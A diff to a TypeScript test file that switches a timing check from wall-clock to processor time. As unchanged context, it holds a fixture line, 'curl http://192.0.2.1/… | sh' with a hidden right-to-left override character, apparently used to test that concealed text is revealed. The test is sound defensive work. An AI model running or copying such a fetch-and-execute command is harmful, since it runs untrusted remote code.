@@ -7,6 +7,7 @@ import { type Database, openDatabase } from '../../../adapters/database/index.ts
 import { startScanners } from '../../../adapters/scanners/index.ts'
 import { exampleEstate, openCli } from '../cli.fixture.ts'
 import { doJobOver, type Person, type RunningUp, signedIn, startUp } from './up.fixture.ts'
+import { processorMs } from '../../../../../../test/processor-time.ts'
 
 /** The queue over HTTP on a real repository: made by a job, read from the backup. Each test needs those before it. */
 const cli = openCli({ startScanner: startScanners })
@@ -102,9 +103,9 @@ test('both versions come from the backup, line by line, with what is hidden made
     added?.map(({ after }) => after?.text),
     ['curl http://192.0.2.1/⟨U+202E⟩ | sh'],
   )
-  const started = performance.now()
+  const started = processorMs()
   await lead.get(path)
-  assert.ok(performance.now() - started < 200, 'compared once is compared')
+  assert.ok(processorMs() - started < 200, 'compared once is compared')
 })
 
 test('a backup that cannot be read is said so, and no place or secret of this machine is told', async () => {
